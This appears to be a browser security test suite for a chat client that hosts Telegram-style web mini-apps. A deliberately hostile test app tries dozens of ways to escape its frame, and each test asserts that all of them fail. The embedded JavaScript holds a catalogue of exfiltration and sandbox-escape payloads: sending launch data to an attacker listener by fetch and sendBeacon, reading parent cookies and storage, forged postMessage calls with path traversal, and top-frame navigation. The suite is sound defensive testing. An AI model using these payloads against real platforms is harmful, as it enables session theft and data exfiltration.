"""A hostile web mini-app in a real browser tries what one must not be able to do, and reports what it managed: nothing."""

import json
import re
import socket
import threading
from urllib.parse import urlsplit

import pytest
from playwright.sync_api import expect

from browser import shoot
from stoa import wait_for
from webapp import TELEGRAM, Host, deploy_web, frame_of, inside, launch, open_web

PAGE = """<!doctype html><html><head><meta charset="utf-8"><script src="/stoa-web-app.js"></script><script src="/attacks.js"></script>
</head><body><button id="tap">Tap</button><p id="dom">mine</p></body></html>"""

# Each answers with what it got hold of, or throws. `URLS` is filled in.
ATTACKS = r"""
const urls = URLS;
const stolen = Telegram.WebApp.initData;
Telegram.WebApp.ready();
const soon = (ms) => new Promise((resolve) => setTimeout(resolve, ms));
const ways = (list) => Promise.all(list.map(async (run) => { try { const got = await run(); return got ? 'got ' + got : 'no'; } catch (e) { return 'no'; } }));
window.attacks = {
  // ── the client's cookies, storage, DOM ──
  dom: () => ways([() => top.document.title, () => parent.document.title, () => parent.parent.document.body.innerHTML,
    () => top.frames[0].document.title, () => frameElement && frameElement.outerHTML]),
  cookies: () => ways([() => top.document.cookie, () => parent.document.cookie,
    () => (document.cookie = 'a=1; domain=localhost', document.cookie.includes('a=1') && 'wide cookie')]),
  storage: () => ways([() => top.localStorage.length, () => parent.localStorage.length,
    () => Object.keys(localStorage).filter((key) => key.startsWith('stoa')).join(), () => localStorage.getItem('stoa.session'),
    async () => (await indexedDB.databases()).map((db) => db.name).join(), async () => (await caches.keys()).join()]),
  script: () => ways([() => top.eval('1'), () => { top.location.href = 'javascript:alert(1)'; return ''; },
    () => { parent.location.href = 'javascript:parent.document.title="hacked"'; return ''; }]),
  domain: () => ways([() => { document.domain = 'localhost'; return document.domain === 'localhost' && parent.document.title; }]),
  // ── the top page ──
  navigateTop: () => ways([() => { top.location = urls.evil; }, () => { top.location.href = urls.evil; }, () => { parent.location = urls.evil; },
    () => { parent.location.replace(urls.evil); }, () => { window.open(urls.evil, '_top'); }, () => { window.open(urls.evil, '_parent'); },
    () => { link('_top'); }, () => { link('_parent'); }, () => { form('_top'); }, () => { top.close(); }, () => { top.history.back && ''; },
    () => { parent.postMessage(JSON.stringify({ eventType: 'web_app_open_tg_link', eventData: { path_full: '@evil.example/' } }), '*'); }]),
  // ── windows ──
  windows: () => ways([() => window.open(urls.evil), () => window.open(urls.evil, '_blank', 'noopener') && 'window', () => { link('_blank'); },
    () => { form('_blank'); }, () => window.open('about:blank'), () => window.open('javascript:1', 'x'), () => { window.print(); },
    () => { Telegram.WebApp.openLink(urls.evil); }, () => window.confirm('x') && 'dialog']),
  // ── other origins ──
  reach: () => ways([
    async () => (await fetch(urls.evil)).status, async () => { await fetch(urls.evil, { mode: 'no-cors', method: 'POST', body: stolen }); return 'sent'; },
    async () => (await fetch(urls.evil, { keepalive: true, mode: 'no-cors' })).type,
    () => new Promise((done, no) => { const x = new XMLHttpRequest(); x.onload = () => done('xhr'); x.onerror = no; x.open('GET', urls.evil); x.send(); }),
    () => new Promise((done, no) => { const s = new WebSocket(urls.evil.replace('http', 'ws')); s.onopen = () => done('ws'); s.onerror = no; }),
    () => new Promise((done, no) => { const s = new EventSource(urls.evil); s.onopen = () => done('es'); s.onerror = no; }),
    () => navigator.sendBeacon(urls.evil, stolen) && '', () => element('img', 'src'), () => element('script', 'src'), () => element('video', 'src'),
    () => element('audio', 'src'), () => element('iframe', 'src'), () => element('embed', 'src'), () => element('object', 'data'),
    () => css('@import "' + urls.evil + '"'), () => css('@font-face { font-family: x; src: url(' + urls.evil + ') } #dom { font-family: x }'),
    () => css('#dom { background: url(' + urls.evil + ') }'), () => rel('stylesheet'), () => rel('prefetch'), () => rel('preload'),
    () => rel('modulepreload'), () => rel('manifest'), () => rel('icon'), () => rel('prerender'), () => rel('dns-prefetch'), () => rel('preconnect'),
    async () => { await import(urls.evil); return 'import'; }, () => new Worker(urls.evil) && '', () => new SharedWorker(urls.evil) && '',
    () => { form('_self'); }, () => { const a = document.createElement('a'); a.href = '#'; a.ping = urls.evil; document.body.append(a); a.click(); },
    async () => { const w = new Worker(URL.createObjectURL(new Blob(['fetch("' + urls.evil + '",{mode:"no-cors"}).then(()=>postMessage(1))']))); await soon(300); },
    async () => { const r = new RTCPeerConnection({ iceServers: [{ urls: urls.stun }] }); r.createDataChannel('x'); await r.setLocalDescription(await r.createOffer()); await soon(1500); },
    async () => { const t = new WebTransport(urls.evil.replace('http', 'https')); await t.ready; return 'wt'; },
    () => { document.open(); document.write('<img src="' + urls.evil + '"><script>fetch("' + urls.evil + '")<\/script>'); document.close(); },
  ]),
  serviceWorker: () => ways([async () => { await navigator.serviceWorker.register('/sw.js'); return 'registered'; }]),
  inlineScript: () => ways([() => { const s = document.createElement('script'); s.textContent = 'window.ran = 1'; document.body.append(s); return window.ran; },
    () => { document.body.insertAdjacentHTML('beforeend', '<img src=x onerror="window.ran=2">'); return window.ran; }, () => eval('1+1'), () => new Function('return 1')()]),
  devices: () => ways([async () => (await navigator.mediaDevices.getUserMedia({ audio: true })).id,
    () => new Promise((done, no) => navigator.geolocation.getCurrentPosition(() => done('place'), no)),
    async () => (await navigator.clipboard.readText()) || 'clipboard', async () => { await navigator.clipboard.writeText('x'); return 'clipboard'; },
    async () => { const p = await Notification.requestPermission(); return p === 'granted' && p; }, async () => { await document.documentElement.requestFullscreen(); return 'full'; }]),
  // ── data of others ──
  launchData: () => ways([
    async () => (await fetch(urls.client + '/v1/apps/pies/launch', { method: 'POST', body: '{}', credentials: 'include' })).status,
    async () => (await fetch(urls.client + '/v1/me')).status, async () => (await fetch('/v1/me')).ok && 'me', async () => (await fetch(urls.pies)).status,
    async () => { const w = new WebSocket(urls.client.replace('http', 'ws') + '/v1/stream'); await new Promise((d, n) => { w.onopen = d; w.onerror = n; }); return 'stream'; },
    () => element('iframe', 'src', urls.pies), () => element('iframe', 'src', urls.frame + '/pies'), () => element('script', 'src', urls.pies + 'data.js'),
    () => Array.from({ length: top.length }, (_, i) => { try { return top[i].location.hash; } catch { return ''; } }).join(''),
    () => Array.from({ length: top.length }, (_, i) => { try { return top[i][0].location.href; } catch { return ''; } }).filter((href) => href && href !== location.href).join(''),
    () => window.secret]),
  forgedAsk: () => new Promise((done) => {
    // Each of these is for another app's values, or as if another frame had asked.
    const heard = [];
    addEventListener('message', ({ data }) => heard.push(data));
    const ask = (event, data) => JSON.stringify({ eventType: event, eventData: data });
    top.postMessage(ask('web_app_invoke_custom_method', { req_id: 'direct', method: 'getStorageKeys', params: {} }), '*');
    top.postMessage(ask('web_app_data_send', { data: 'forged' }), '*');
    parent.postMessage(ask('web_app_invoke_custom_method', { req_id: 'path', method: 'getStorageValues', params: { keys: ['../../pies/storage/x', 'secret'] } }), '*');
    parent.postMessage(ask('web_app_invoke_custom_method', { req_id: 'app', method: 'getStorageKeys', params: { app: 'pies' } }), '*');
    setTimeout(() => done(heard), 1200);
  }),
};
function go(el) { document.body.append(el); el.click?.(); }
function link(target) { const a = document.createElement('a'); a.href = urls.evil; a.target = target; a.rel = 'opener'; go(a); }
function form(target) { const f = document.createElement('form'); f.action = urls.evil; f.method = 'post'; f.target = target; document.body.append(f); f.submit(); }
function element(tag, attribute, url = urls.evil) {
  return new Promise((done, no) => { const e = document.createElement(tag); e.onload = () => { if (tag === 'iframe') { try { if (e.contentDocument) return no(); } catch {} no(); } else done(tag); };
    e.onerror = no; e[attribute] = url; document.body.append(e); setTimeout(no, 1500); });
}
function css(text) { const s = document.createElement('style'); s.textContent = text; document.head.append(s); }
function rel(kind) { const l = document.createElement('link'); l.rel = kind; l.as = 'image'; l.href = urls.evil; document.head.append(l); }
"""


class Listener:
    """A server of the attacker's that notes whoever comes: HTTP and anything else over TCP, and UDP beside it."""

    def __init__(self):
        self.tcp = socket.create_server(("127.0.0.1", 0))
        self.port = self.tcp.getsockname()[1]
        self.udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.udp.bind(("127.0.0.1", self.port))
        self.came: list[str] = []
        for run in (self._tcp, self._udp):
            threading.Thread(target=run, daemon=True).start()

    def _tcp(self):
        while True:
            try:
                connection, _ = self.tcp.accept()
                connection.settimeout(2)
                try:
                    self.came.append(connection.recv(2000).decode(errors="replace").split("\r\n")[0] or "a connection")
                except TimeoutError:
                    self.came.append("a silent connection")
                connection.sendall(b"HTTP/1.1 200 OK\r\nAccess-Control-Allow-Origin: *\r\nContent-Length: 2\r\nConnection: close\r\n\r\nok")
                connection.close()
            except OSError:
                if self.tcp.fileno() < 0:
                    return

    def _udp(self):
        while True:
            try:
                self.udp.recvfrom(2000)
                self.came.append("a datagram")
            except OSError:
                return

    def close(self):
        self.tcp.close()
        self.udp.close()


@pytest.fixture
def evil():
    listener = Listener()
    yield listener
    listener.close()


def enter(browser, server, name: str = "alice"):
    """A page of the client in a context of its own, in which somebody has signed in. What the browser refuses is no error here."""
    context = browser.new_context(viewport={"width": 1280, "height": 800}, locale="en-GB")
    page = context.new_page()
    page.set_default_timeout(15_000)
    page.goto(server.url)
    page.get_by_test_id("signin-name").fill(name)
    page.get_by_test_id("signin-password").fill("demo")
    page.get_by_test_id("signin-submit").click()
    expect(page.get_by_test_id("new-chat")).to_be_visible()
    return page


@pytest.fixture
def attack(browser, demo, evil):
    """Opens the hostile app as alice and gives back what tries an attack; and the client's page."""
    port = urlsplit(demo.url).port
    urls = {
        "evil": f"http://127.0.0.1:{evil.port}/stolen", "stun": f"stun:127.0.0.1:{evil.port}", "client": demo.url,
        "pies": f"http://pies.localhost:{port}/", "frame": f"http://0frame.localhost:{port}"}
    deploy_web(demo, "pies", {"index.html": TELEGRAM, "data.js": "window.secret = 1"})
    deploy_web(demo, "evil", {
        "index.html": PAGE, "attacks.js": ATTACKS.replace("URLS", json.dumps(urls)), "sw.js": "onfetch = (e) => e.respondWith(new Response('x'))"})
    alice = demo.sign_in("alice")
    launch(alice, "pies")
    assert alice.call("PUT", "/v1/apps/pies/storage/secret", {"value": "of the pies"}).status == 204
    page = enter(browser, demo)
    open_web(page, demo.url, "evil")
    expect(page.locator("[data-webapp=evil]")).to_have_attribute("data-state", "ready")
    title = page.title()

    def run(name: str):
        # From the page's own task: what a debugger runs is let off some of the rules.
        frame = frame_of(page, "evil.localhost")
        frame.evaluate("delete window.managed")
        frame.evaluate(f"void setTimeout(() => attacks.{name}().then((got) => window.managed = got), 0)")
        return wait_for(lambda: frame.evaluate("window.managed"), "the attack to end", pause=0.2)

    run.page, run.evil, run.server, run.alice = page, evil, demo, alice
    yield run
    # Whatever was tried, the client is where it was, and nobody else heard of it.
    assert urlsplit(page.url).netloc == demo.host and page.title() == title
    assert len(page.context.pages) == 1
    assert evil.came == []
    page.context.close()


@pytest.mark.parametrize("name", ["dom", "cookies", "storage", "script", "domain"])
def test_it_cannot_read_the_clients_cookies_storage_or_dom(attack, name):
    assert set(attack(name)) == {"no"}
    # The session is there to be stolen, and the client goes on with it.
    assert attack.page.evaluate("Object.keys(localStorage).length") > 0
    expect(attack.page.get_by_test_id("webapp-close")).to_be_visible()


def test_it_cannot_navigate_the_top_page(attack):
    assert set(attack("navigateTop")) == {"no"}
    attack.page.wait_for_timeout(700)
    # Nor after a tap.
    inside(attack.page).locator("#tap").evaluate("(button) => button.onclick = () => attacks.navigateTop()")
    inside(attack.page).locator("#tap").click()
    attack.page.wait_for_timeout(700)
    assert urlsplit(attack.page.url).path == "/w/evil"
    expect(attack.page.locator("[data-webapp=evil]")).to_be_visible()


def test_it_cannot_open_a_window(attack):
    assert set(attack("windows")) == {"no"}
    attack.page.wait_for_timeout(500)
    # openLink only asks; a tap within the app's own page is no agreement either.
    expect(attack.page.get_by_test_id("webapp-link")).to_contain_text("/stolen")
    shoot(attack.page, "webapp-attack-link")
    attack.page.get_by_role("button", name="Cancel").click()
    inside(attack.page).locator("#tap").evaluate("(button) => button.onclick = () => attacks.windows()")
    inside(attack.page).locator("#tap").click()
    attack.page.wait_for_timeout(500)
    # A hundred questions are one question, and the client's own bar stays in reach.
    frame_of(attack.page, "evil.localhost").evaluate(
        "for (let i = 0; i < 100; i++) parent.postMessage(JSON.stringify({ eventType: 'web_app_open_popup',"
        " eventData: { message: 'again', buttons: [{ type: 'ok', id: 'x' }] } }), '*')")
    attack.page.get_by_test_id("webapp-close").click()
    expect(attack.page.locator("[data-webapp=evil]")).to_be_hidden()


@pytest.mark.parametrize("name", ["reach", "serviceWorker", "inlineScript", "devices"])
def test_it_cannot_reach_another_origin(attack, name):
    assert set(attack(name)) == {"no"}
    attack.page.wait_for_timeout(1500)


@pytest.mark.parametrize("how", [
    "location.href = @EVIL", "location.replace(@EVIL)", "location = 'data:text/html,<script>fetch(\"' + @EVIL + '\")</script>'",
    "document.body.innerHTML += '<meta http-equiv=refresh content=\"0;url=' + @EVIL + '\">'",
    "location = URL.createObjectURL(new Blob(['<script>fetch(\"' + @EVIL + '\")</script>'], { type: 'text/html' }))",
    "document.body.innerHTML += '<a id=x href=' + @EVIL + '>x</a>', x.click()",
    "document.body.innerHTML += '<form id=y action=' + @EVIL + '></form>', y.submit()",
    "location = @PIES + '#' + encodeURIComponent(Telegram.WebApp.initData)", "location = @FRAME + '/pies#' + Telegram.WebApp.initData",
    "location = @CLIENT + '/#/wallet'", "history.pushState(null, '', '/x'), location = @EVIL",
])
def test_it_cannot_lead_itself_elsewhere(attack, how):
    port = urlsplit(attack.server.url).port
    asked = []
    attack.page.on("request", lambda request: asked.append(request.url))
    script = how
    for word, value in [
        ("EVIL", f"http://127.0.0.1:{attack.evil.port}/stolen"), ("PIES", f"http://pies.localhost:{port}/"),
        ("FRAME", f"http://0frame.localhost:{port}"), ("CLIENT", attack.server.url),
    ]:
        script = script.replace("@" + word, json.dumps(value))
    try:
        frame_of(attack.page, "evil.localhost").evaluate(f"() => {{ {script} }}")
    except Exception as error:
        assert "SyntaxError" not in str(error), (script, error)
    attack.page.wait_for_timeout(900)
    hosts = {urlsplit(frame.url).hostname for frame in attack.page.frames if frame.url.startswith("http")}
    assert hosts <= {"127.0.0.1", "0frame.localhost", "evil.localhost"}
    assert len([frame for frame in attack.page.frames if urlsplit(frame.url).hostname == "127.0.0.1"]) == 1
    expect(attack.page.get_by_test_id("webapp-close")).to_be_visible()


def test_it_cannot_get_data_of_another_app_or_user(attack):
    assert set(attack("launchData")) == {"no"}
    heard = [json.loads(text) for text in attack("forgedAsk") if isinstance(text, str) and text.startswith("{")]
    answers = {message["eventData"]["req_id"]: message["eventData"] for message in heard if "req_id" in message["eventData"]}
    # What is asked of the client directly, past the frame, is not heard; what is asked in the frame is answered for this app.
    assert "direct" not in answers
    assert answers["app"]["result"] == [] and "result" not in answers["path"]
    chat = attack.alice.direct("evil")
    attack.server.wait_until_idle()
    assert not [m for m in attack.alice.history(chat) if "forged" in m["text"]]


def test_it_cannot_be_shown_by_anybody_but_the_client(browser, attack):
    """Nor another app be shown by it: the frames of pies were tried above. Here a page of the attacker's shows pies."""
    page = browser.new_page()
    port = urlsplit(attack.server.url).port
    html = f"""<iframe src="http://pies.localhost:{port}/"></iframe><iframe src="http://0frame.localhost:{port}/pies"></iframe>
        <iframe src="{attack.server.url}/"></iframe>"""
    page.route("http://attacker.example.com/", lambda route: route.fulfill(body=html, content_type="text/html"))
    page.goto("http://attacker.example.com/")
    page.wait_for_timeout(800)
    assert not [frame for frame in page.frames if frame.url.startswith("http") and "attacker" not in frame.url]
    page.close()


def test_opened_by_itself_it_is_as_confined(browser, attack):
    """The app's own address in a tab of its own: no launch data, no windows, the same policy."""
    page = browser.new_page()
    page.goto(f"http://evil.localhost:{urlsplit(attack.server.url).port}/")
    assert page.evaluate("Telegram.WebApp.initData") == ""
    assert page.evaluate("window.open('about:blank')") is None
    page.evaluate("void setTimeout(() => attacks.reach().then((got) => window.managed = got), 0)")
    assert set(wait_for(lambda: page.evaluate("window.managed"), "the attack to end", pause=0.2)) == {"no"}
    page.wait_for_timeout(1500)
    page.close()


def test_a_site_of_its_own_is_framed_and_held(browser, demo):
    """A site that is no package: its own pages and policy, with the bridge or Telegram's script."""
    deploy_web(demo, "pies", {"index.html": TELEGRAM})
    deploy_web(demo, "site", {}, web={"url": "https://site.example.com/app?x=1", "origins": ["https://login.example.com"]})
    script = Host(demo, "pies").get("/stoa-web-app.js").body.decode()
    own = """const { user } = Telegram.WebApp.initDataUnsafe; who.textContent = user ? user.username : 'nobody';
        Telegram.WebApp.MainButton.setText('Hi').show()"""
    asked = []

    def serve(route):
        asked.append(route.request.url)
        body = {"bridge.js": script, "own.js": own}.get(route.request.url.rsplit("/", 1)[-1])
        html = '<!doctype html><p id="who"></p><script src="/bridge.js"></script><script src="/own.js"></script>'
        route.fulfill(body=body or html, content_type="text/javascript" if body else "text/html")

    page = enter(browser, demo)
    page.context.route(re.compile(r"https://.*\.example\.com/.*"), serve)
    open_web(page, demo.url, "site")
    expect(inside(page).locator("#who")).to_have_text("alice")
    expect(page.get_by_test_id("webapp-main")).to_have_text("Hi")
    assert "tgWebAppData" not in "".join(asked)
    # It may lead itself to the origins of its manifest, and to no others.
    frame_of(page, "site.example.com").evaluate("void setTimeout(() => location.href = 'https://login.example.com/')")
    frame = frame_of(page, "login.example.com")
    frame.evaluate("void setTimeout(() => location.href = 'https://evil.example.com/?stolen')")
    page.wait_for_timeout(1000)
    assert not [url for url in asked if "evil" in url]
    page.context.close()
